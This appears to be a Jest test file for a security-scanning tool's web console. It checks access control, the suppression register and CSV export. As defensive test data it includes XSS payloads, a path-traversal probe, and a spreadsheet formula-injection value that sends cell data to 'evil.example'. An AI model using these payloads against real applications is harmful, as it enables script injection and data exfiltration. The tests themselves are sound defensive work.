import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import nock from "nock";
import { CookieClient, startConsole, type ConsoleHarness } from "./console-harness.js";
import { HOSTILE, seedConsole } from "./console-seed.js";

let h: ConsoleHarness;
const alice = new CookieClient();
beforeAll(async () => {
  nock.disableNetConnect();
  nock.enableNetConnect("127.0.0.1");
  h = await startConsole();
  await seedConsole(h.guardrail.deps.store, Date.now());
  h.github.signInAs("alice");
  await alice.follow(`${h.base}/console/login`);
});
afterAll(async () => {
  await h.stop();
  nock.enableNetConnect();
});

const page = async (path: string) => {
  const res = await alice.get(`${h.base}${path}`);
  return { res, html: await res.text() };
};

describe("console pages (signed in as alice: acme/shop and Acme/API)", () => {
  it("shows the overview of her repositories only", async () => {
    const { res, html } = await page("/console");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(res.headers.get("content-security-policy")).toContain("script-src 'self'");
    expect(html).toContain("2 repositories visible to you");
    expect(html).toContain('href="/console/repos/acme/shop"');
    expect(html).toContain('href="/console/repos/Acme/API"');
    expect(html).not.toMatch(/secret/i);
    expect(html).toMatch(/<span class="n">1<\/span><span>open critical<\/span>/);
    expect(html).toMatch(/<span class="n">1<\/span><span>open high<\/span>/);
    expect(html).toContain('50% <span class="muted">(1 of 2 pull requests analysed)</span>');
    expect(html).toContain("<td>42s mean (first analysis of 1 pull request)</td>");
    expect(html).not.toMatch(/<script>(?!<\/script>)/);
    expect(html).toMatch(/<script src="\/console\/assets\/console.js" defer><\/script>/);
    expect(html).toMatch(/data-chart="\{&quot;weeks&quot;:\[/);
  });

  it("renders hostile SARIF text and justifications as text", async () => {
    const repo = await page("/console/repos/acme/shop");
    expect(repo.res.status).toBe(200);
    for (const raw of [HOSTILE.message, HOSTILE.rule, HOSTILE.path])
      expect(repo.html).not.toContain(raw);
    expect(repo.html).not.toContain("<img src=x");
    expect(repo.html).not.toContain("<script>window.__xss");
    expect(repo.html).toContain(
      "User input &lt;img src=x onerror=&quot;window.__xss=&#39;message&#39;;alert(1)&quot;&gt; reaches res.send",
    );
    expect(repo.html).toContain(
      'href="https://github.com/acme/shop/blob/HEAD/src/%3Cb%3Eviews%3C/b%3E/%22quote%22.js#L42"',
    );
    const register = await page("/console/suppressions");
    expect(register.html).toContain(
      "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;window.__xss=&#39;justification&#39;",
    );
    expect(register.html).not.toContain(HOSTILE.justification);
    expect(register.html).not.toContain("<script>window");
    expect(register.html).not.toContain("SECRET-JUSTIFICATION");
  });

  it("lists the register with who, approver, created and expiry, and filters it", async () => {
    const { html } = await page("/console/suppressions");
    const rows = html.split("<tr>").slice(2);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toContain("accepted-risk");
    expect(rows[0]).toContain("erin");
    expect(rows[1]).toContain("dave");
    expect(rows[1]).toContain("<td>carol</td>");
    expect(rows[1]).toContain('href="/console/repos/acme/shop/findings/GR-5a0b0002"');
    const filtered = await page("/console/suppressions?reason=accepted-risk&expires=7");
    expect(filtered.html.split("<tr>").slice(2)).toHaveLength(1);
    expect(filtered.html).toContain(
      'href="/console/suppressions.csv?reason=accepted-risk&amp;expires=7"',
    );
    const unseen = await page("/console/suppressions?repo=acme%2Fsecret");
    expect(unseen.html.split("<tr>").slice(2)).toHaveLength(0);
  });

  it("exports the register as CSV with formula cells neutralised", async () => {
    const { res, html: csv } = await page("/console/suppressions.csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(
      'attachment; filename="guardrail-suppressions.csv"',
    );
    const lines = csv.trim().split("\r\n");
    expect(lines[0]).toBe(
      "repository,finding,scope,rule,message,reason,justification,who,approver,status,created,expires",
    );
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(lines[2]).toMatch(/^acme\/shop,GR-5a0b0002,finding,/);
    expect(lines[2]).toContain(",dave,carol,active,");
    expect(csv).not.toContain("SECRET");
  });

  it("answers 404 for a repository or finding she cannot see, as for one that does not exist", async () => {
    for (const path of [
      "/console/repos/acme/secret",
      "/console/repos/acme/secret/findings/GR-5ec00001",
      "/console/repos/acme/nothing",
      "/console/repos/acme/shop/findings/GR-5ec00001",
      "/console/nowhere",
    ]) {
      const { res, html } = await page(path);
      expect([path, res.status]).toEqual([path, 404]);
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(html).not.toContain("SECRET");
    }
  });

  it("shows a finding's lifecycle: first seen, PR, suppression request, approval, on any case of the name", async () => {
    const { res, html } = await page("/console/repos/ACME/shop/findings/GR-5a0b0002");
    expect(res.status).toBe(200);
    const steps = [...html.matchAll(/<strong>([^<]+)<\/strong>/g)].map((m) => m[1]);
    expect(steps).toEqual([
      "alice",
      "First seen",
      "Reported in the pull request",
      "Merged unresolved (escape)",
      "Suppression requested by dave",
      "Suppression approved by carol",
    ]);
    expect(html).toContain('href="https://github.com/acme/shop/pull/7"');
    expect(html).toContain("checked the sanitiser");
    expect(html).toContain("in pull request #7");
  });

  it("serves uPlot and the console script from the app", async () => {
    const js = await alice.get(`${h.base}/console/assets/uPlot.iife.min.js`);
    expect(js.status).toBe(200);
    expect(js.headers.get("content-type")).toBe("text/javascript; charset=utf-8");
    expect(await js.text()).toContain("uPlot");
    expect((await alice.get(`${h.base}/console/assets/../../package.json`)).status).not.toBe(200);
  });
});
